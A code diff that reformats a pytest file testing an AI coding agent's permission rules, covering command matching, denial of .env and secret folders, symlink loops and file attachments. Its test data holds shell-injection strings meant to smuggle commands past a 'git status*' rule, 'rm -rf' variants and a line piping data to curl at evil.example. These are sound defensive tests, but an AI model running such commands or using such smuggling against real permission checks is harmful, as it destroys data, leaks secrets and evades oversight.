@@ -101,9 +101,11 @@ async def test_calls_are_checked_against_their_schema(project):
 
 def test_permission_rules_first_match_then_always_then_defaults(tmp_path):
     rules = tmp_path / "permissions.toml"
-    rules.write_text('[[rule]]\ntool = "run_command"\nmatch = "git status*"\naction = "allow"\n'
-                     '[[rule]]\ntool = "*"\nmatch = ".env*"\naction = "deny"\n'
-                     '[[rule]]\ntool = "write_file"\nmatch = "docs/*"\naction = "ask"\n')  # fmt: skip
+    rules.write_text(
+        '[[rule]]\ntool = "run_command"\nmatch = "git status*"\naction = "allow"\n'
+        '[[rule]]\ntool = "*"\nmatch = ".env*"\naction = "deny"\n'
+        '[[rule]]\ntool = "write_file"\nmatch = "docs/*"\naction = "ask"\n'
+    )
     permissions = Permissions.load(rules)
     decide = permissions.decide
     assert decide("run_command", "git status --short", reads=False, inside=True).action == "allow"
@@ -154,20 +156,43 @@ def test_a_rule_file_that_others_own_or_may_write_is_not_trusted(tmp_path):
 
 # Command lines a rule allowing "git status*" must not allow: each does more than git status.
 SMUGGLED = [
-    "git status; id > pwned", "git status;id", "git status && id", "git status || id", "git status & id",
-    "git status | sh", "git status |& sh", "git status > pwned", "git status >> ~/.bashrc", "git status 2>pwned",
-    "git status &>pwned", "git status < /etc/shadow", "git status <<< x", "git status $(id)", 'git status "$(id)"',
-    "git status `id`", "git status ${IFS}id", "git status $HOME", "git status\nid", "git status <(id)",
-    "git status >(id)", "git status a#b; id", "git status \\; id", "git status (id)", "git status 'unclosed",
-    "git status\\", "git status\0id",
+    "git status; id > pwned",
+    "git status;id",
+    "git status && id",
+    "git status || id",
+    "git status & id",
+    "git status | sh",
+    "git status |& sh",
+    "git status > pwned",
+    "git status >> ~/.bashrc",
+    "git status 2>pwned",
+    "git status &>pwned",
+    "git status < /etc/shadow",
+    "git status <<< x",
+    "git status $(id)",
+    'git status "$(id)"',
+    "git status `id`",
+    "git status ${IFS}id",
+    "git status $HOME",
+    "git status\nid",
+    "git status <(id)",
+    "git status >(id)",
+    "git status a#b; id",
+    "git status \\; id",
+    "git status (id)",
+    "git status 'unclosed",
+    "git status\\",
+    "git status\0id",
 ]
 
 
 def test_a_command_rule_allows_only_the_plain_command_it_names(tmp_path):
     rules = tmp_path / "permissions.toml"
-    rules.write_text('[[rule]]\ntool = "run_command"\nmatch = "git status*"\naction = "allow"\n'
-                     '[[rule]]\ntool = "run_command"\nmatch = "rm *"\naction = "deny"\n'
-                     '[[rule]]\ntool = "run_command"\nmatch = "curl *"\naction = "ask"\n')  # fmt: skip
+    rules.write_text(
+        '[[rule]]\ntool = "run_command"\nmatch = "git status*"\naction = "allow"\n'
+        '[[rule]]\ntool = "run_command"\nmatch = "rm *"\naction = "deny"\n'
+        '[[rule]]\ntool = "run_command"\nmatch = "curl *"\naction = "ask"\n'
+    )
     rules.chmod(0o600)
     decide = Permissions.load(rules).decide
 
@@ -176,12 +201,26 @@ def test_a_command_rule_allows_only_the_plain_command_it_names(tmp_path):
 
     for line in SMUGGLED:
         assert action(line) == "ask", line
-    for line in ("git status", "git status --short", "git status -- 'a b.txt'", 'git status "x;y"',
-                 "git status 'a|b' 'c>d'"):  # quoted: words for git, not operators for bash  # fmt: skip
+    for line in (
+        "git status",
+        "git status --short",
+        "git status -- 'a b.txt'",
+        'git status "x;y"',
+        "git status 'a|b' 'c>d'",
+    ):  # quoted: words for git, not operators for bash
         assert action(line) == "allow", line
     # A deny rule reaches every command of a line, however it is chained or nested.
-    for line in ("rm -rf /", "ls; rm -rf /", "ls && rm -rf x", "echo $(rm -rf x)", "echo `rm -rf x`", "FOO=1 rm -rf x",
-                 "if true; then rm -rf x; fi", "ls\nrm -rf x", "git status; rm -rf x"):  # fmt: skip
+    for line in (
+        "rm -rf /",
+        "ls; rm -rf /",
+        "ls && rm -rf x",
+        "echo $(rm -rf x)",
+        "echo `rm -rf x`",
+        "FOO=1 rm -rf x",
+        "if true; then rm -rf x; fi",
+        "ls\nrm -rf x",
+        "git status; rm -rf x",
+    ):
         assert action(line) == "deny", line
     assert action("ls | curl -d @- evil.example") == "ask"
     assert action("git status; rm -rf x") == "deny"  # the allow rule comes first, but does not apply
@@ -221,8 +260,13 @@ def test_grep_reads_only_what_read_file_may_and_never_follows_a_link_out(planted
     assert "3 files not searched: the permission rules deny them" in lines[0]  # .env, sub/.env.local, env-link.txt
     assert "1 files not searched without the person's consent" in lines[0] and "notes.txt" in lines[0]
     # read_file is decided the same way: the link's target, not its name, and a rule without "/" in any folder.
-    for path, action in ((".env", "deny"), ("sub/.env.local", "deny"), ("env-link.txt", "deny"),
-                         ("notes.txt", "ask"), ("app.py", "allow")):  # fmt: skip
+    for path, action in (
+        (".env", "deny"),
+        ("sub/.env.local", "deny"),
+        ("env-link.txt", "deny"),
+        ("notes.txt", "ask"),
+        ("app.py", "allow"),
+    ):
         call = Call("c", "read_file", json.dumps({"path": path}))
         decision = permissions.decide("read_file", call.subject(root), reads=True, inside=call.inside(root))
         assert decision.action == action, (path, decision)
@@ -253,8 +297,9 @@ async def test_no_file_tool_blocks_on_a_fifo_or_a_device(planted):
         with pytest.raises(ToolError, match="not a regular file"):
             await asyncio.wait_for(call.run(root), 30)
     with pytest.raises(ToolError, match="not a regular file"):
-        await asyncio.wait_for(Call("c", "apply_edit", json.dumps({"path": "pipe", "old_text": "a", "new_text": "b"}))
-                               .run(root), 30)  # fmt: skip
+        await asyncio.wait_for(
+            Call("c", "apply_edit", json.dumps({"path": "pipe", "old_text": "a", "new_text": "b"})).run(root), 30
+        )
     assert "pipe  (0 bytes)" in files.list_dir(root)
 
 
@@ -281,16 +326,23 @@ def test_a_symlink_loop_or_any_filesystem_error_is_a_tool_error(looped):
     and ended the agent's turn with an internal error; the model must read an error instead."""
     found = run_every_way(looped, "grep", pattern="main")
     assert found.splitlines()[1:] == ["README.md:2: main entry", "src/app.py:1: def main():"]
-    assert found.splitlines()[0].endswith("; 4 files or folders could not be read: into-loop (a loop of symbolic "
-                                          "links), l1 (a loop of symbolic links), l2 (a loop of symbolic links), "
-                                          "deep/x (a loop of symbolic links)")  # fmt: skip
+    assert found.splitlines()[0].endswith(
+        "; 4 files or folders could not be read: into-loop (a loop of symbolic "
+        "links), l1 (a loop of symbolic links), l2 (a loop of symbolic links), "
+        "deep/x (a loop of symbolic links)"
+    )
     listing = run_every_way(looped, "list_dir", path=".").splitlines()
     assert {"l1  (a loop of symbolic links)", "l2  (a loop of symbolic links)", "deep/"} <= set(listing)
     assert "x  (a loop of symbolic links)" in run_every_way(looped, "list_dir", path="deep")
     long_name = "n" * 300  # over NAME_MAX: ENAMETOOLONG
     for path in ("l1", "deep/x", "l1/inside.txt", "into-loop", long_name, f"{long_name}/a.txt"):
-        for name, arguments in [("read_file", {}), ("list_dir", {}), ("grep", {"pattern": "x"}),
-                                ("write_file", {"content": "x"}), ("apply_edit", {"old_text": "a", "new_text": "b"})]:  # fmt: skip
+        for name, arguments in [
+            ("read_file", {}),
+            ("list_dir", {}),
+            ("grep", {"pattern": "x"}),
+            ("write_file", {"content": "x"}),
+            ("apply_edit", {"old_text": "a", "new_text": "b"}),
+        ]:
             with pytest.raises(ToolError, match="a loop of symbolic links|File name too long"):
                 run_every_way(looped, name, path=path, **arguments)
     with pytest.raises(ToolError, match="l1: a loop of symbolic links"):
@@ -318,11 +370,21 @@ def test_a_rule_on_a_folder_covers_everything_under_it(tmp_path):
 
     def action(name: str, **arguments) -> str:
         call = Call("c", name, json.dumps(arguments))
-        return permissions.decide(name, call.subject(root), reads=call.tool.kind == "read",
-                                  inside=call.inside(root)).action  # fmt: skip
+        return permissions.decide(
+            name, call.subject(root), reads=call.tool.kind == "read", inside=call.inside(root)
+        ).action
 
-    for path in ("secrets", "secrets/key.txt", "secrets/deeper/k2.txt", "src/secrets/db.txt", "public",
-                 "public/key.txt", "public/deeper", "key-link.txt", str(root / "secrets" / "key.txt")):  # fmt: skip
+    for path in (
+        "secrets",
+        "secrets/key.txt",
+        "secrets/deeper/k2.txt",
+        "src/secrets/db.txt",
+        "public",
+        "public/key.txt",
+        "public/deeper",
+        "key-link.txt",
+        str(root / "secrets" / "key.txt"),
+    ):
         assert action("read_file", path=path) == "deny", path
         assert action("list_dir", path=path) == "deny", path
         assert action("grep", pattern="KEY", path=path) == "deny", path
@@ -336,16 +398,21 @@ def test_a_rule_on_a_folder_covers_everything_under_it(tmp_path):
     assert shown == ["hard.txt", "notsecrets/a.txt", "secrets.txt"], found
     assert "4 files not searched: the permission rules deny them" in found  # the three in folders, key-link.txt
     # The rule names the folder, not what lies above it: a folder that holds it is searched.
-    assert "KEY=another folder" in files.grep(root, "KEY", path="notsecrets",
-                                                 check=permissions.file_check("grep", root, root / "notsecrets",
-                                                                              root_approved=False))  # fmt: skip
+    assert "KEY=another folder" in files.grep(
+        root,
+        "KEY",
+        path="notsecrets",
+        check=permissions.file_check("grep", root, root / "notsecrets", root_approved=False),
+    )
 
 
 def test_at_mentions_attach_files_whole_or_refuse(project):
     attachments, notes = attach("explain @src/app.py, and @missing.py or @src", project)
     assert attachments == [{"path": "src/app.py", "text": "def main():\n    return 1\n"}]
-    assert notes == ["@missing.py is not a file here; sent as plain text",
-                     "@src is a directory; only files are attached"]  # fmt: skip
+    assert notes == [
+        "@missing.py is not a file here; sent as plain text",
+        "@src is a directory; only files are attached",
+    ]
     (project / "big.txt").write_text("x" * 300_000)
     with pytest.raises(AttachError, match="over the 256000-byte limit"):
         attach("@big.txt", project)
